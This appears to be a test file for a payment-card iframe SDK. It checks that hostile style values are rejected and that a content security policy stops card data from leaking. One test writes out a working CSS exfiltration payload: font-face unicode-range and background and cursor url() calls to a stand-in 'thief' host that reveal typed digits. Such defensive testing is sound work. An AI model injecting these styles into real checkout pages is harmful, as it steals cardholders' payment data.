import { BenchPage } from '../support/bench-page.js';
import { HOSTILE_VALUES, STYLED_PROPERTIES } from '../support/hostile-styles.js';
import { addRawFrames, COLLECT_SETUP } from '../support/raw-frame.js';
import { recordRequests } from '../support/requests.js';
import { expect, test } from '../support/test.js';

test.describe('styles of a hostile page', () => {
  test('A34 A36 A37 fetch, escape and displace nothing: each value is refused whole', async ({ page, world }) => {
    const requests = recordRequests(page);
    await addRawFrames(page);
    await page.goto(`${world.shop}/bench`);
    const thief = world.hosts.origin('thief');
    const values = HOSTILE_VALUES.map((value) => value.replaceAll('THIEF', `${thief}/x`));
    const accepted = await page.evaluate(
      async ({ url, setup, values, properties }) => {
        window.raw = await window.openRaw(url);
        const { raw } = window;
        await raw.welcome(raw.hellos[0]?.frame ?? '');
        await raw.call(['setup'], setup);
        const through: string[] = [];
        for (const value of values) {
          for (const property of properties) {
            const rules = { input: { base: { [property]: value }, focus: { [property]: value } } };
            const reply = await raw.call(['update'], { appearance: { rules } });
            if (!JSON.stringify(reply).includes('"ok":false')) through.push(`${property}: ${value}`);
            // The frame takes so many calls a second and drops the rest.
            await new Promise((resolve) => setTimeout(resolve, 5));
          }
          const reply = await raw.call(['update'], { appearance: { variables: { colorText: value } } });
          if (!JSON.stringify(reply).includes('"ok":false')) through.push(`--color-text: ${value}`);
        }
        const good = { rules: { input: { base: { color: 'rgb(1, 2, 3)' } } } };
        if (!JSON.stringify(await raw.call(['update'], { appearance: good })).includes('"ok":true'))
          through.push('good');
        return through;
      },
      { url: `${world.elements}/collect.html`, setup: COLLECT_SETUP, values, properties: [...STYLED_PROPERTIES] },
    );
    expect(accepted).toEqual([]);
    const frame = page.frames().find((each) => each.url().endsWith('/collect.html'));
    await expect(frame?.locator('input').first() ?? page.locator('none')).toHaveCSS('color', 'rgb(1, 2, 3)');
    await frame?.getByLabel('number').fill('4242 4242');
    expect(requests.filter((line) => line.includes('thief.localhost'))).toEqual([]);
    // It would be seen.
    await page.evaluate((url) => fetch(url, { mode: 'no-cors' }).catch(() => undefined), `${thief}/x`);
    expect(requests.filter((line) => line.includes('thief.localhost'))).toHaveLength(1);
  });

  test('A34 A36 the SDK tells the integrator the place of what was refused', async ({ page, world }) => {
    const bench = new BenchPage(page, world);
    await bench.mountCard('one frame');
    const heard = await page.evaluate(
      () =>
        new Promise((resolve) => {
          window.form.on('error', ({ code, hint }) => {
            resolve({ code, hint });
          });
          const rules = { input: { base: { backgroundColor: 'url(//thief.localhost)' } } };
          window.form.update({ appearance: { rules } });
        }),
    );
    expect(heard).toEqual({ code: 'appearance', hint: '/rules/input/base/backgroundColor' });
  });

  test('A34 A36 that got past the frame would still fetch nothing: the policy is a second wall', async ({
    page,
    world,
  }) => {
    const reached: string[] = [];
    for (const path of ['/font', '/background', '/cursor', '/control'])
      world.hosts.serve(path, {
        handle: async () => {
          reached.push(path);
          return { status: 200, body: '' };
        },
      });
    const bench = new BenchPage(page, world);
    await bench.mountCard('one frame');
    const frame = await bench.frameOf('number', 'one frame');
    const thief = world.hosts.origin('thief');
    await frame.evaluate((url) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`@font-face{font-family:x;src:url(${url}/font);unicode-range:U+34}
        .input{font-family:x!important;background:url(${url}/background)!important;cursor:url(${url}/cursor),auto}`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    }, thief);
    await bench.type('number', '4242', 'one frame');
    await page.evaluate((url) => fetch(`${url}/control`, { mode: 'no-cors' }), thief);
    expect(reached).toEqual(['/control']);
  });
});
